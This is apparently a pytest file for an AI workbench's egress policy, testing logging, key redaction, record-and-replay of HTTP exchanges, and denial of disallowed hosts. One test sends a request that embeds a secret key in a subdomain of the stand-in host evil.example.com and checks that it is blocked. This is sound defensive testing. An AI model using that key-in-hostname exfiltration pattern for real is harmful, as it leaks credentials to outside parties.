"""What goes out is told and kept without keys, and comes back from the record byte for byte, without a socket."""

import asyncio
import json
from collections import Counter
from collections.abc import Mapping
from typing import Any

import pytest

from tests.policy.doors import ALLOWED, HOST, KEY, SECRETS, get, say, street
from tests.web import Reply, serving
from workbench.core.errors import Denied, ReplayMiss, TransientError
from workbench.core.events import Event, Kind, dumps, loads
from workbench.policy.egress import http_service
from workbench.policy.messages import Outgoing
from workbench.policy.outgoing import WayOut
from workbench.policy.proxy import door_service
from workbench.policy.recording import MAX_INLINE, Received, Recorded, Recorder, counted
from workbench.policy.secrets import Secrets
from workbench.sandbox.doors import Doors

ASK = {"method": "POST", "url": f"https://{HOST}/search", "json": {"q": "x"}, "auth": {"bearer": "KEY"}}


def recorder(told: list[Mapping[str, Any]], folder: Any, **options: Any) -> Recorder:
    return Recorder(told.append, folder, "r1", Counter(), clean=SECRETS.redact, **options)


def events(told: list[Mapping[str, Any]]) -> list[Any]:
    """The bodies as events that were on disk."""
    made = [
        Event(run="r1", seq=seq, at="2026-11-27T04:00:00.000000+00:00", step="s1", kind=Kind.SERVICE_CALLED, body=body)
        for seq, body in enumerate(told)
    ]
    return [loads(dumps(event)) for event in made]


def offline(told: list[Mapping[str, Any]], folder: Any, again: list[Mapping[str, Any]]) -> WayOut:
    """A way out that has only the record: no key is set, and nobody answers where the host should be."""
    return WayOut(
        ALLOWED,
        Secrets({}),
        {HOST: "http://127.0.0.1:9"},
        recorder(again, folder, recorded=Recorded.of(events(told), folder)),
    )


async def test_an_exchange_is_told_with_sizes_and_hashes_and_without_the_key(tmp_path):
    told: list[Mapping[str, Any]] = []
    with serving() as server:
        server.replies = [Reply(body={"you": KEY})]
        http = http_service(WayOut(ALLOWED, SECRETS, {HOST: server.url}, recorder(told, tmp_path)).send)
        await http(ASK)
        await http(ASK)
        await http({**ASK, "json": {"q": "y"}})
    first, second, third = told
    assert first["service"] == "http"
    assert (first["host"], first["method"], first["status"]) == (HOST, "POST", 200)
    assert (first["bytes_out"], first["bytes_in"]) == (len('{"q": "x"}'), len(json.dumps({"you": KEY})))
    assert first["request_sha256"] == second["request_sha256"] != third["request_sha256"]
    assert [body["occurrence"] for body in told] == [0, 1, 0]
    assert first["response"]["text"] == '{"you": "[redacted]"}'
    assert KEY not in json.dumps(told)


async def test_what_was_denied_or_failed_is_told_too(tmp_path):
    told: list[Mapping[str, Any]] = []
    way = WayOut(ALLOWED, SECRETS, {HOST: "http://127.0.0.1:9"}, recorder(told, tmp_path))
    with pytest.raises(Denied):
        await way.send({**ASK, "url": f"https://{KEY}.evil.example.com/"})
    with pytest.raises(TransientError):
        await way.send(ASK)
    assert [body["error"]["kind"] for body in told] == ["Denied", "TransientError"]
    assert [body["response_sha256"] for body in told] == [None, None]
    assert KEY.lower() not in json.dumps(told).lower()


@pytest.mark.parametrize(
    "reply",
    [
        Reply(body={"results": [1, "ü"]}, headers={"ETag": "e"}),
        Reply(body=b"\x89PNG\xff\x00\x01", headers={"Content-Type": "image/png"}),
        Reply(body="x" * (MAX_INLINE + 1), headers={"Content-Type": "text/plain"}),
        Reply(429, {"detail": "slow"}, {"Retry-After": "7"}),
        Reply(204),
    ],
    ids=["json", "bytes", "large", "error", "empty"],
)
async def test_a_recorded_exchange_comes_back_through_http_and_the_door_byte_for_byte(tmp_path, reply):
    async with street(tmp_path) as there:
        there.server.replies = [reply]
        asked = {"headers": "Accept: a/b\r\n"}
        url = await there.open()
        through_the_door = await say(url, get(url, "/search?a=1", **asked))
        params = {"url": f"https://{HOST}/search?a=1", "headers": {"Accept": "a/b"}}
        by_hand = await http_service(there.way.send)(params)
        assert len(there.server.heard) == 2
        told = list(there.told)
    assert [body["occurrence"] for body in told] == [0, 1]

    again: list[Mapping[str, Any]] = []
    doors = Doors()
    doors.listening = True
    way = offline(told, tmp_path, again)
    replayed = await door_service(way.send, way, doors)({"host": HOST, "auth": {"bearer": "KEY"}})
    assert await say(replayed["url"], get(replayed["url"], "/search?a=1", **asked)) == through_the_door
    assert await http_service(way.send)(params) == by_hand
    await doors.close()
    assert [body["response_sha256"] for body in again] == [body["response_sha256"] for body in told]
    assert all(body["replayed"] for body in again)


async def test_large_responses_are_files_named_by_their_content(tmp_path):
    async with street(tmp_path) as there:
        there.server.replies = [Reply(body="x" * (MAX_INLINE + 1))]
        for _ in range(2):
            await there.way.send(ASK)
        first, second = there.told
    assert "response" not in first
    assert first["kept"] == second["kept"] == f"r1/response-{first['response_sha256']}.json"
    assert [path.name for path in (tmp_path / "r1").iterdir()] == [first["kept"].removeprefix("r1/")]


async def test_a_replay_repeats_what_failed_and_misses_what_was_never_asked(tmp_path):
    told: list[Mapping[str, Any]] = []
    with pytest.raises(TransientError):
        await WayOut(ALLOWED, SECRETS, {HOST: "http://127.0.0.1:9"}, recorder(told, tmp_path)).send(ASK)
    way = offline(told, tmp_path, [])
    with pytest.raises(TransientError, match="cannot be reached"):
        await way.send(ASK)
    with pytest.raises(ReplayMiss, match="number 2"):
        await way.send(ASK)
    with pytest.raises(Denied):
        await way.send({**ASK, "url": "https://evil.example.com/"})


async def test_a_kept_response_that_was_changed_is_a_miss(tmp_path):
    async with street(tmp_path) as there:
        there.server.replies = [Reply(body="x" * (MAX_INLINE + 1))]
        await there.way.send(ASK)
    kept = tmp_path / there.told[0]["kept"]
    kept.write_bytes(kept.read_bytes().replace(b"xxx", b"xyx", 1))
    with pytest.raises(ReplayMiss, match="changed"):
        await offline(there.told, tmp_path, []).send(ASK)
    kept.unlink()
    with pytest.raises(ReplayMiss, match="gone"):
        await offline(there.told, tmp_path, []).send(ASK)


async def test_what_was_stopped_is_told_and_cannot_be_replayed(tmp_path):
    told: list[Mapping[str, Any]] = []
    with serving() as server:
        server.replies = [Reply(wait=30)]
        way = WayOut(ALLOWED, SECRETS, {HOST: server.url}, recorder(told, tmp_path))
        sending = asyncio.create_task(way.send(ASK))
        while not server.heard:  # noqa: ASYNC110 - the server is on another loop
            await asyncio.sleep(0.001)
        sending.cancel()
        with pytest.raises(asyncio.CancelledError):
            await sending
    assert told[0]["error"]["kind"] == "Cancelled"
    with pytest.raises(ReplayMiss):
        await offline(told, tmp_path, []).send(ASK)


def test_a_request_is_named_by_what_it_asks_and_not_by_who_asks():
    def sha256(**changes: Any) -> str:
        given: dict[str, Any] = {"method": "GET", "url": "https://a/b", "said": "", "headers": {}, "content": b""}
        return Outgoing(**given | changes).sha256()

    same = [{"user-agent": "x/1"}, {"x-stainless-retry-count": "1"}, {"traceparent": "00-1"}, {"x-request-id": "7"}]
    others: list[dict[str, Any]] = [{"method": "POST"}, {"url": "https://a/c"}, {"headers": {"accept": "x"}}]
    assert {sha256(headers=headers) for headers in same} == {sha256()}
    assert len({sha256(), sha256(content=b"x"), *(sha256(**change) for change in others)}) == 5


async def test_a_later_round_goes_on_counting(tmp_path):
    told: list[Mapping[str, Any]] = []
    for _ in range(2):
        later = Recorder(told.append, tmp_path, "r1", counted(events(told)))
        async with later.exchange(service="x", host="", method="", request_sha256="a", bytes_out=0) as exchange:
            await exchange.keep(Received(value=1, bytes_in=1))
    assert [body["occurrence"] for body in told] == [0, 1]
